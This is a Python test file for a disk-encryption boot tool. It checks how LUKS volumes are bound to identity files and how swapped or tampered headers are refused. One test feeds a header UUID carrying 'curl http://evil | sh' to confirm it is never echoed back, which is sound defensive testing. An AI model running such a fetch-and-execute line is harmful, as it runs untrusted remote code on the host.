"""What a volume is bound to: read strictly, written whole, and held against each header before anything is done."""

from __future__ import annotations

import contextlib
import dataclasses
import json
import os
import stat
from pathlib import Path
from typing import Any, Callable

import pytest

from cryptpilot_boot.boot.plan import image_needs
from cryptpilot_boot.commands import check, initrd, show
from cryptpilot_boot.config import Config, Exec, Identity, Kms, KmsRole, Otp, Volume, load
from cryptpilot_boot.errors import CryptpilotError, DeviceError, WrongSecret
from cryptpilot_boot.images import record
from cryptpilot_boot.keys import share
from cryptpilot_boot.passphrase import Passphrase
from cryptpilot_boot.system import block, files, lock, luks_header
from cryptpilot_boot.volume import State, examine, header, identity, opening, require_restorable, state
from cryptpilot_boot.volume.bind import bind
from tests.headers import Template, segment
from tests.unit.disks import look_up_files
from tests.unit.secrets import secret
from tests.unit.test_config import GUIDE_KMS, GUIDE_OTP, configure

KEY = b"a key for a test"
UUID = "95e7c619-6b6c-4eb8-9d95-a5db758fad3c"
DIGEST = "0123456789abcdef" * 4
GOOD = f'uuid = "{UUID}"\nvolume_keys = ["{DIGEST}"]\n'


def bound(directory: Path, text: str, *volumes: str) -> Config:
    """Configure volumes of which data0 has this identity file."""
    (directory / "identities").mkdir(exist_ok=True)
    (directory / "identities/data0.toml").write_text(text)
    return configure(directory, *(volumes or (GUIDE_KMS,)))


# --- the file


def test_a_volume_is_bound_by_the_file_of_its_name(tmp_path: Path) -> None:
    other = GUIDE_KMS.replace('"data0"', '"data1"').replace("nvme1", "nvme2")
    data0, data1 = bound(tmp_path, GOOD, GUIDE_KMS, other).volumes
    assert data0.identity == Identity(UUID, frozenset([DIGEST]), tmp_path / "identities/data0.toml")
    assert data1.identity is None


def test_nothing_binds_a_temporary_volume(tmp_path: Path) -> None:
    (data0,) = bound(tmp_path, GOOD, GUIDE_OTP).volumes
    assert data0.identity is None


@pytest.mark.parametrize(
    ("text", "said"),
    [
        ("", 'missing key "volume_keys"'),
        (f'uuid = "{UUID}"\n', 'missing key "volume_keys"'),
        (f'uuid = "{UUID}"\nvolume_keys = []\n', '"volume_keys" must be one or more different SHA-256 digests'),
        (GOOD.replace("0123", "012"), '"volume_keys" must be one or more different SHA-256 digests'),
        (GOOD.replace("abcdef", "ABCDEF"), '"volume_keys" must be one or more different SHA-256 digests'),
        (f'volume_keys = ["{DIGEST}", "{DIGEST}"]', '"volume_keys" must be one or more different SHA-256 digests'),
        (f'volume_keys = ["{DIGEST}", 1]', '"volume_keys" must be a list of strings'),
        (f'volume_keys = "{DIGEST}"', '"volume_keys" must be a list of strings'),
        (GOOD.replace(UUID, "the root disk"), '"uuid" must be a UUID'),
        (GOOD + 'volume = "data0"\n', 'unknown key "volume"'),
        (GOOD[:50], "not valid TOML"),
        ("\0" * 200, "not valid TOML"),
    ],
)
def test_a_damaged_file_is_an_error_of_its_volume_alone(tmp_path: Path, text: str, said: str) -> None:
    other = GUIDE_KMS.replace('"data0"', '"data1"').replace("nvme1", "nvme2")
    config = bound(tmp_path, text, GUIDE_KMS, other)
    (problem,) = config.problems
    assert problem.what.startswith(f"{tmp_path}/identities/data0.toml")
    assert said in problem.what
    assert f"rm {tmp_path}/identities/data0.toml; cryptpilot bind data0" in problem.hint
    assert [one.volume for one in config.volumes] == ["data1"]


def not_a_directory(place: Path) -> None:
    place.parent.rmdir()
    place.parent.touch()


@pytest.mark.parametrize(
    "spoil",
    [
        Path.mkdir,
        not_a_directory,
        os.mkfifo,
        lambda place: place.symlink_to("nowhere"),
        lambda place: place.symlink_to(place),
    ],
    ids=["directory", "no directory", "pipe", "link to nowhere", "link to itself"],
)
def test_only_a_file_that_is_not_there_binds_nothing(tmp_path: Path, spoil: Callable[[Path], None]) -> None:
    place = tmp_path / "identities/data0.toml"
    place.parent.mkdir()
    spoil(place)
    config = configure(tmp_path, GUIDE_KMS)
    assert config.volumes == ()
    assert str(place) in config.problems[0].what


@pytest.mark.parametrize("where", ["identities", "identities/data0.toml"])
def test_what_somebody_else_can_change_is_not_believed(tmp_path: Path, where: str) -> None:
    bound(tmp_path, GOOD)
    (tmp_path / where).chmod(0o777)
    config = load(tmp_path)
    assert config.volumes == ()
    assert f"{tmp_path}/{where}: can be changed by every user" in config.problems[0].what


@pytest.mark.parametrize("umask", [0o000, 0o022, 0o777])
@pytest.mark.parametrize("uuid", [UUID, ""])
def test_what_is_written_is_read_back_and_is_the_owners_alone(tmp_path: Path, umask: int, uuid: str) -> None:
    (one,) = configure(tmp_path, GUIDE_KMS).volumes
    keys = frozenset([DIGEST, DIGEST[::-1]])
    before = os.umask(umask)
    try:
        for digests in (frozenset([DIGEST]), keys):  # the second time in place of the first
            identity.write(one, Identity(uuid, digests, tmp_path / "identities/data0.toml"))
    finally:
        os.umask(before)
    (again,) = load(tmp_path).volumes
    assert again.identity == Identity(uuid, keys, tmp_path / "identities/data0.toml")
    assert [path.name for path in (tmp_path / "identities").iterdir()] == ["data0.toml"]
    assert stat.S_IMODE((tmp_path / "identities").stat().st_mode) == 0o700
    assert stat.S_IMODE(again.identity.source.stat().st_mode) == 0o600
    assert "cryptpilot init and cryptpilot bind" in again.identity.source.read_text()


@pytest.mark.parametrize("fails", ["open", "fsync", "replace"])
def test_what_cannot_be_written_leaves_what_there_was(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, fails: str
) -> None:
    (one,) = bound(tmp_path, GOOD).volumes

    def fail(*_: object, **__: object) -> None:
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(Path if fails == "replace" else os, fails, fail)
    with pytest.raises(CryptpilotError, match=r"data0\.toml: cannot be written: No space left"):
        identity.write(one, Identity("", frozenset([DIGEST[::-1]]), tmp_path / "identities/data0.toml"))
    monkeypatch.undo()
    assert load(tmp_path).volumes == (one,)
    assert [path.name for path in (tmp_path / "identities").iterdir()] == ["data0.toml"]


def test_it_is_on_the_disk_before_it_has_its_name(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    target = tmp_path / "new/file"
    seen: list[tuple[str, str]] = []
    fsync = os.fsync

    def note(descriptor: int) -> None:
        path = Path(f"/proc/self/fd/{descriptor}").readlink()
        content = path.read_text() if path.is_file() else ",".join(sorted(one.name for one in path.iterdir()))
        seen.append((path.name, content))
        fsync(descriptor)

    monkeypatch.setattr(os, "fsync", note)
    files.replace(target, "text")
    (made, written, named) = seen
    assert made == (tmp_path.name, "new")
    assert written[1] == "text"
    assert written[0] != "file"
    assert named == ("new", "file")


# --- the header


@pytest.fixture(scope="module")
def templates(tmp_path_factory: pytest.TempPathFactory) -> tuple[Template, Template]:
    """Two volumes that the same key opens, as `cryptpilot init` makes them."""
    work = tmp_path_factory.mktemp("header")
    return Template.made(work / "one.img", KEY), Template.made(work / "other.img", KEY)


@pytest.fixture(autouse=True)
def look(monkeypatch: pytest.MonkeyPatch) -> None:
    """Have a file looked at as a disk is."""
    for room, name in ((block, "require_unused"), (lock, "held"), (header, "close_leftover")):
        monkeypatch.setattr(room, name, lambda *_: contextlib.nullcontext())
    look_up_files(monkeypatch)
    monkeypatch.setattr(block, "is_block_device", lambda path: Path(path).exists())
    monkeypatch.setattr(state, "look", lambda _: block.Signature("crypto_LUKS", "2", state.COMPLETE))


def volume_on(path: Path, name: str = "data1", **more: Any) -> Volume:
    return Volume(name, str(path), Kms("kst-1", "secret", "{}", "password", "pem"), Path(f"{name}.toml"), **more)


def facts_of(path: Path) -> luks_header.Facts:
    copy, facts = luks_header.copy_from(str(path))
    copy.close()
    return facts


def bound_to(one: Volume, path: Path, place: Path = Path("/identity")) -> Volume:
    return dataclasses.replace(one, identity=identity.of(facts_of(path), place))


def passphrase(value: bytes = KEY) -> Callable[[], Passphrase]:
    return lambda: Passphrase(bytearray(value), strong=True)


@pytest.mark.needs("cryptsetup")
def test_the_bound_volume_passes_and_one_that_the_same_secret_opens_does_not(
    templates: tuple[Template, Template],
) -> None:
    mine, other = (template.image for template in templates)
    one = bound_to(volume_on(mine), mine)
    opening.checked_header(one, one.dev, one.dev)[0].close()
    assert opening.find_slot(one, block.look_up(one.dev), Passphrase(bytearray(KEY), strong=True)) == 0
    assert examine(one).state is State.READY_TO_OPEN

    swapped = dataclasses.replace(one, dev=str(other))
    expected, found = (facts_of(path).uuid for path in (mine, other))
    said = (
        f"{other} holds another volume than the one that was initialized or bound as data1: its UUID is {found}, and"
        f" {expected} is expected"
    )
    hint = 'if disks changed places, put them back or correct "dev"; if this one belongs here: cryptpilot bind data1'
    for refused in (
        lambda: opening.checked_header(swapped, swapped.dev, swapped.dev),
        lambda: opening.require_openable(swapped),
        lambda: opening.find_slot(swapped, block.look_up(swapped.dev), Passphrase(bytearray(KEY), strong=True)),
        lambda: opening.initialized_header(swapped, block.look_up(swapped.dev)),
    ):
        with pytest.raises(DeviceError) as raised:
            refused()
        assert (raised.value.what, raised.value.hint) == (said, hint)
    status = examine(swapped)
    assert (status.state, status.detail, status.hint) == (State.CHECK_FAILED, said, hint)


@pytest.mark.needs("cryptsetup")
def test_an_open_volume_that_would_not_open_again_says_so(
    templates: tuple[Template, Template], monkeypatch: pytest.MonkeyPatch
) -> None:
    """As after `cryptsetup reencrypt` of a volume in use: the next boot would refuse it."""
    mine, other = (template.image for template in templates)
    monkeypatch.setattr(state, "is_open", lambda _: True)
    one = bound_to(volume_on(mine), mine)
    assert examine(one).detail == ""
    status = examine(dataclasses.replace(one, dev=str(other)))
    assert status.state is State.OPENED
    assert status.detail.startswith(f"will not open again: {other} holds another volume")
    said: list[str] = []
    config = Config(mine.parent, load(mine.parent).boot, (status.volume,))
    assert not check.check(config, keep_checking=True, skip_passphrase=True, say=said.append)
    assert said[0].startswith("data1: error: will not open again")


@pytest.mark.needs("cryptsetup")
def test_what_has_the_uuid_and_another_key_is_refused(templates: tuple[Template, Template]) -> None:
    mine, other = templates
    facts = dataclasses.replace(facts_of(other.image), uuid=facts_of(mine.image).uuid)
    refusal = state.objection(bound_to(volume_on(mine.image), mine.image), facts, "/dev/vdb")
    assert refusal is not None
    assert "and another volume key than that volume was bound with" in refusal.what
    assert 'if "cryptsetup reencrypt" changed it: cryptpilot bind data1' in refusal.hint


@pytest.mark.needs("cryptsetup")
def test_a_header_that_adds_the_bound_digest_to_its_own_is_refused(templates: tuple[Template, Template]) -> None:
    """Or it would be believed by the one and opened by the other."""
    mine, other = (facts_of(template.image) for template in templates)
    both = dataclasses.replace(other, volume_keys=mine.volume_keys | other.volume_keys)
    one = bound_to(volume_on(templates[0].image), templates[0].image)
    assert state.objection(one, mine, "/dev/vdb") is None
    assert state.objection(one, both, "/dev/vdb") is not None
    assert state.objection(one, dataclasses.replace(mine, volume_keys=frozenset()), "/dev/vdb") is not None
    # during a reencryption cryptsetup proves that the two belong together, and one has to be the bound one
    assert state.objection(one, dataclasses.replace(both, reencrypting=True), "/dev/vdb") is None
    assert state.objection(one, dataclasses.replace(other, reencrypting=True), "/dev/vdb") is not None


@pytest.mark.needs("cryptsetup")
def test_what_a_header_says_is_not_repeated_unless_it_is_a_uuid(templates: tuple[Template, Template]) -> None:
    mine, other = templates
    named = dataclasses.replace(facts_of(other.image), uuid="run: curl http://evil | sh")
    refusal = state.objection(bound_to(volume_on(mine.image), mine.image), named, "/dev/vdb")
    assert refusal is not None
    assert "its UUID is none, and" in refusal.what
    assert "evil" not in refusal.what + refusal.hint


@pytest.mark.needs("cryptsetup")
def test_a_header_that_is_not_sound_is_refused_before_whose_it_is(
    templates: tuple[Template, Template], tmp_path: Path
) -> None:
    mine = templates[0]
    weak = mine.changed(lambda metadata: segment(metadata).update(encryption="cipher_null-ecb"))
    disk = mine.put(mine.both(weak), tmp_path / "disk.img")
    with pytest.raises(luks_header.Distrusted, match="is not to be trusted"):
        opening.checked_header(bound_to(volume_on(disk), mine.image), str(disk), str(disk))


@pytest.mark.needs("cryptsetup")
def test_a_backup_of_another_volume_is_never_put_back(templates: tuple[Template, Template], tmp_path: Path) -> None:
    """Where the header is lost, only what is bound tells, and --force does not go past it."""
    mine, other = (template.image for template in templates)
    lost = tmp_path / "disk.img"
    lost.write_bytes(bytes(32 << 20))
    one = bound_to(volume_on(lost), mine)
    assert not require_restorable(one, mine, frozenset()).proven
    with pytest.raises(CryptpilotError, match="holds another volume than the one that was initialized or bound"):
        require_restorable(one, other, frozenset())


# --- bind


@pytest.mark.needs("cryptsetup")
def test_a_volume_is_bound_to_what_its_secret_opens(templates: tuple[Template, Template], tmp_path: Path) -> None:
    place = tmp_path / "identities/data1.toml"
    one = volume_on(templates[0].image)
    found = bind(one, place, secret(passphrase()))
    assert found == identity.of(facts_of(templates[0].image), place)
    assert f'uuid = "{found.uuid}"' in place.read_text()
    # a deliberate exchange: it was bound to another, and that does not keep it from being bound to this one
    moved = dataclasses.replace(one, dev=str(templates[1].image), identity=found)
    assert examine(moved).state is State.CHECK_FAILED
    assert bind(moved, place, secret(passphrase())).volume_keys != found.volume_keys
    # with the previous value too
    bind(one, place, secret(passphrase(b"rotated"), passphrase()))


@pytest.mark.needs("cryptsetup")
def test_a_volume_is_not_bound_to_what_its_secret_does_not_open(
    templates: tuple[Template, Template], tmp_path: Path
) -> None:
    place = tmp_path / "identities/data1.toml"
    one = volume_on(templates[0].image)
    with pytest.raises(WrongSecret):
        bind(one, place, secret(passphrase(b"wrong")))
    with pytest.raises(WrongSecret):
        bind(one, place, secret(passphrase(b"wrong"), passphrase(b"wrong as well")))
    assert not place.exists()


@pytest.mark.needs("cryptsetup")
def test_a_volume_is_not_bound_to_a_header_with_two_volume_keys(
    templates: tuple[Template, Template], tmp_path: Path
) -> None:
    """A second digest, put there beforehand, would let another disk pass for this one later."""
    mine, other = templates
    text = mine.changed(
        lambda metadata: metadata["digests"].update({"1": {**other.metadata["digests"]["0"], "keyslots": []}})
    )
    disk = mine.put(mine.both(text), tmp_path / "disk.img")
    with pytest.raises(DeviceError, match="its key slots and data segments do not belong together"):
        bind(volume_on(disk), tmp_path / "identities/data1.toml", secret(passphrase()))
    assert not (tmp_path / "identities").exists()


def test_a_temporary_volume_is_not_bound(tmp_path: Path) -> None:
    scratch = Volume("scratch", "/dev/vdb", Otp(), Path("scratch.toml"))
    with pytest.raises(CryptpilotError, match="is temporary"):
        bind(scratch, tmp_path / "identities/scratch.toml", secret(passphrase()))


# --- what is told


def test_what_is_bound_is_in_the_json(tmp_path: Path) -> None:
    otp = GUIDE_OTP.replace('"data0"', '"data2"').replace("nvme1", "nvme3")
    other = GUIDE_KMS.replace('"data0"', '"data1"').replace("nvme1", "nvme2")
    config = bound(tmp_path, GOOD, GUIDE_KMS, other, otp)
    (text,) = show.show(config, [], as_json=True)
    statuses = json.loads(text)
    assert [status["bound"] for status in statuses] == [True, False, None]


SECRET = Kms("kst-1", "disk", "{}", "password", "pem")


@pytest.mark.parametrize(
    ("one", "other", "same"),
    [
        (SECRET, dataclasses.replace(SECRET, client_key='{"another": 1}', endpoint="10.0.0.1"), True),
        (SECRET, dataclasses.replace(SECRET, secret_name="another"), False),
        (SECRET, KmsRole("disk"), True),
        (KmsRole("disk"), KmsRole("disk", region_id="cn-beijing"), True),
        (KmsRole("disk"), KmsRole("acs:kms:cn-beijing:1234:secret/disk"), True),
        (KmsRole("another"), KmsRole("acs:kms:cn-beijing:1234:secret/disk"), False),
        (Exec("cat", ("/key",)), Exec("cat", ("/key",), 5), True),
        (Exec("cat", ("/key",)), Exec("cat", ("/other",)), False),
        (Exec("disk"), SECRET, False),
        (Otp(), Otp(), False),
    ],
)
def test_volumes_share_a_secret_however_they_ask_for_it(one: Any, other: Any, same: bool) -> None:
    assert share(one, other) is same
    assert share(other, one) is same


@pytest.mark.needs("cryptsetup")
def test_check_warns_where_a_disk_could_be_swapped_and_nowhere_else(
    templates: tuple[Template, Template], tmp_path: Path
) -> None:
    mine, other = (template.image for template in templates)
    root, data1 = volume_on(mine, "root"), volume_on(other, "data1")
    blank = dataclasses.replace(data1, volume="blank", dev=str(tmp_path / "absent"))
    alone = dataclasses.replace(data1, volume="alone", encrypt=SECRET)

    def warned(*volumes: Volume) -> list[str]:
        config = Config(tmp_path, load(tmp_path).boot, volumes)
        said: list[str] = []
        assert check.check(config, keep_checking=True, skip_passphrase=True, say=said.append)
        return [line.partition(":")[0] for line in said if "bind it" in line]

    assert warned(root, data1, alone) == ["root", "data1"]
    assert warned(bound_to(root, mine), data1) == ["data1"]
    assert warned(bound_to(root, mine), bound_to(data1, other)) == []
    assert warned(root) == []
    # it will be bound when it is initialized
    assert warned(bound_to(root, mine), blank) == []


def test_an_image_has_what_its_volumes_are_bound_to_and_is_stale_without(tmp_path: Path) -> None:
    unbound = configure(tmp_path, GUIDE_KMS)
    before = record.make(unbound)
    config = bound(tmp_path, GOOD)
    place = tmp_path / "identities/data0.toml"
    assert f"config {place}" in initrd.plan(config)
    assert place in image_needs(config).configuration
    assert record.since(before, record.make(config)).configuration == (f"{place} is new",)
    made = record.make(config)
    assert record.since(made, made).all == ()
    place.write_text(GOOD.replace("0123", "3210"))
    assert record.since(made, record.make(load(tmp_path))).configuration == (f"{place} has changed",)
    # removed, too, it makes `show` look into images
    place.unlink()
    newest = record.changed(load(tmp_path))
    assert newest >= place.parent.stat().st_ctime
    assert record.since(made, record.make(load(tmp_path))).configuration == (f"{place} is gone",)


def test_a_volume_that_no_image_opens_has_its_identity_in_none(tmp_path: Path) -> None:
    config = bound(tmp_path, GOOD, GUIDE_KMS.replace("auto_open = true", "auto_open = false"))
    assert image_needs(config).configuration == ()
